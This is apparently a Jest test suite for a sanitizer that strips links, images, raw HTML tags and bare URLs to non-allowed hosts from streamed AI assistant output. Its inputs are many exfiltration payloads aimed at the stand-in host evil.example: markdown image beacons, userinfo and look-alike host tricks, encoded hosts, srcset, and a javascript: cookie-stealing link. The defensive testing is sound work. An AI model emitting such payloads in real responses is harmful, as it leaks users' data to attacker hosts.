import { describe, expect, it } from '@jest/globals';
import { OutputSanitizer, unfinishedConstructAt } from './output-sanitizer';

const sanitizer = new OutputSanitizer(['acme.example', 'widget.acme-cdn.example']);
const LEAK = /evil\.example\/|SECRET/;

describe('OutputSanitizer', () => {
  it.each([
    ['an inline image', 'Look ![chart](http://evil.example/?q=SECRET) here', 'Look chart here'],
    ['an image with a title', '![a](<http://evil.example/x?q=SECRET> "t")', 'a'],
    ['an inline link', 'See [this page](https://evil.example/p?d=SECRET).', 'See this page.'],
    ['a protocol-relative link', '[x](//evil.example/?q=SECRET)', 'x'],
    ['a javascript: link', '[x](javascript:alert(document.cookie))', 'x'],
    ['an entity-encoded host', '![x](http://evil&#46;example/?q=SECRET)', 'x'],
    ['a userinfo trick', '[x](https://acme.example@evil.example/?q=SECRET)', 'x'],
    ['a look-alike subdomain', '[x](https://acme.example.evil.example/?q=SECRET)', 'x'],
    [
      'an image inside a link',
      '[![x](http://evil.example/i?q=SECRET)](https://acme.example/)',
      '[x](https://acme.example/)',
    ],
    ['a raw <img>', 'a <img src="http://evil.example/p.png?q=SECRET" alt="pixel"> b', 'a pixel b'],
    [
      'a raw <img> with > in an attribute',
      '<img alt="a>b" src="http://evil.example/?q=SECRET">',
      'a>b',
    ],
    [
      'a tag CommonMark would not parse but a browser would',
      '<img src=http://evil.example/?q=SECRET>',
      '&lt;img src=evil.example>',
    ],
    [
      'a srcset',
      '<img srcset="https://acme.example/a.png 1x, http://evil.example/b.png?q=SECRET 2x">',
      '',
    ],
    ['a raw <a>', '<a href="http://evil.example/?q=SECRET">click</a>', 'click</a>'],
    ['an autolink', 'Go to <http://evil.example/?q=SECRET> now', 'Go to evil.example now'],
    ['a bare URL', 'Visit https://evil.example/?q=SECRET.', 'Visit evil.example.'],
    ['a bare www URL', 'Visit www.evil.example/?q=SECRET now', 'Visit evil.example now'],
  ])('neutralises %s', (_, input, expected) => {
    const output = sanitizer.sanitize(input);
    expect(output).toBe(expected);
    expect(output).not.toMatch(LEAK);
  });

  it('neutralises reference-style links and images through their definitions', () => {
    const output = sanitizer.sanitize(
      'Read [the guide][g] and ![logo][l] and [ok][k].\n\n[g]: http://evil.example/?q=SECRET\n[l]: <http://evil.example/l.png?q=SECRET> "Logo"\n[k]: https://acme.example/k\n',
    );
    expect(output).toBe(
      'Read the guide and logo and [ok][k].\n\n\n\n[k]: https://acme.example/k\n',
    );
  });

  it('keeps links and images to the tenant’s hosts and its subdomains, and plain text', () => {
    const text =
      'See [help](https://acme.example/help), ![logo](https://cdn.acme.example/l.png), ' +
      '<https://widget.acme-cdn.example/faq>, https://acme.example/x and citations [1] [2].';
    expect(sanitizer.sanitize(text)).toBe(text);
  });

  it('escapes a tag-like `<` that is not a whole tag, so that it can never become one', () => {
    expect(sanitizer.sanitize('if a<b then <b>bold</b>')).toBe('if a&lt;b then <b>bold</b>');
  });

  it('allows nothing when the tenant has no hosts', () => {
    expect(new OutputSanitizer([]).sanitize('[a](https://acme.example/)')).toBe('a');
  });
});

describe('StreamingSanitizer', () => {
  const answer =
    'Sure! Vouchers last 12 months [1]. ![x](http://evil.example/?q=SECRET) See [help](https://acme.example/help) ' +
    'or [this](http://evil.example/s?d=SECRET), <img src="http://evil.example/p?q=SECRET" alt="p"> ' +
    '<http://evil.example/a?q=SECRET> www.evil.example/w?q=SECRET https://acme.example/ok [r][d]\n[d]: http://evil.example/d?q=SECRET\nEnd.';

  it.each([1, 2, 3, 5, 8, 13])(
    'never emits a piece of an exfiltrating URL (deltas of %i)',
    (size) => {
      const streaming = sanitizer.streaming();
      const emitted: string[] = [];
      for (let at = 0; at < answer.length; at += size) {
        emitted.push(streaming.push(answer.slice(at, at + size)));
      }
      emitted.push(streaming.end());
      const whole = emitted.join('');

      for (const piece of emitted) expect(piece).not.toMatch(LEAK);
      expect(whole).not.toMatch(LEAK);
      expect(whole).toContain(
        'Vouchers last 12 months [1]. x See [help](https://acme.example/help) or this, p',
      );
      expect(whole).toContain('https://acme.example/ok');
      expect(whole.endsWith('End.')).toBe(true);
    },
  );

  it('emits plain text as it arrives', () => {
    const streaming = sanitizer.streaming();
    expect(streaming.push('Hello there, ')).toBe('Hello there, ');
    expect(streaming.push('see [1')).toBe('see ');
    expect(streaming.push('] now ')).toBe('[1] now ');
  });

  it('defuses a construct held too long instead of waiting forever', () => {
    const streaming = sanitizer.streaming();
    const emitted = [
      streaming.push(`[${'a'.repeat(3000)}`),
      streaming.push('](http://evil.example/?q=SECRET) and '),
      streaming.push(`https://evil.example/${'x'.repeat(3000)}`),
      streaming.push('SECRET more'),
      streaming.end(),
    ].join('');
    expect(emitted.startsWith('\\[aaa')).toBe(true);
    expect(emitted).not.toMatch(LEAK);
    expect(emitted.endsWith(' more')).toBe(true);
  });
});

describe('unfinishedConstructAt', () => {
  it.each([
    ['plain text', 'hello world', 11],
    ['an open bracket', 'see [1', 4],
    ['a closed bracket at the end', 'see [1]', 4],
    ['a decided shortcut', 'see [1] ok', 10],
    ['an unfinished destination', 'a [b](http://x', 2],
    ['an image', 'a ![b](', 2],
    ['a tag', 'a <img src="x', 2],
    ['a URL prefix', 'go ht', 3],
    ['an unterminated URL', 'go https://a.b/c', 3],
    ['a definition line', '[d]: http://x', 0],
  ])('holds %s', (_, text, expected) => {
    expect(unfinishedConstructAt(text)).toBe(expected);
  });
});
